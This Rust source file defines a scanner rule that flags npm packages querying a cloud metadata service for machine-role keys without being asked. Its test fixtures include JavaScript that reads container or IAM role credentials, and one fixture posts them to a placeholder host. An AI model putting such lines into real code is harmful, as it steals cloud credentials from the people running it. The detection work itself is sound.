//! The metadata service of a cloud is asked for the keys of the machine.

use super::judge::{self, ByTrigger};
use super::{Context, Declaration, Example, Finding, host};
use crate::api::targets;
use crate::model::Severity;

pub(super) static FINDING: Declaration = Declaration {
    id: "machine-role-credentials",
    title: "Asks the cloud for the keys of the machine by itself",
    severity: Severity::High,
    summary: "While it is installed or imported, the package asks the metadata service of a cloud: an address that only the machine itself can reach. It hands keys with all rights of that machine to whoever asks.",
    advice: "If it ran on a machine of a cloud, rotate the keys of that machine's role and look at what was done with them.",
    benign_when: "A client of the cloud asks when its user calls it.",
    references: &["CWE-506", "CWE-522", "T1552.005"],
    examples: &[
        Example {
            name: "code asks for a container's keys by the variable that says where they are",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"fetch("http://169.254.170.2" + process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)
  .then((r) => r.text())
  .then((t) => fetch("https://a.invalid/", { method: "POST", body: t }));"#,
                ),
            ],
        },
        Example {
            name: "an import asks for the keys of the role",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/").then((r) => r.text());"#,
                ),
            ],
        },
        Example {
            name: "a client asks when it is called",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.keys = () => fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/").then((r) => r.text());"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::High,
    asked: Severity::Low,
};

/// An address with what a container's variables stand for.
fn spelled_out(url: &str) -> String {
    url.replace("<env:AWS_CONTAINER_CREDENTIALS_RELATIVE_URI>", "/")
        .replace(
            "<env:AWS_CONTAINER_CREDENTIALS_FULL_URI>",
            "http://169.254.170.2/",
        )
}

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    for behaviour in context.behaviours {
        let Some(url) = behaviour.target.as_deref() else {
            continue;
        };
        let is_request = behaviour.what.id.starts_with("network.");
        if !is_request || !judge::is_unasked(behaviour.reach) {
            continue;
        }
        let asked = spelled_out(url);
        let url = asked.as_str();
        let class = host::host(url).and_then(|at| targets::host_class(&at, host::path(url)));
        if class.is_none_or(|class| !class.id.starts_with("host.metadata")) {
            continue;
        }
        let message = format!("asks {url}");
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        judge::by_trigger(AT_MOST, &mut finding);
        found.push(finding);
    }
}
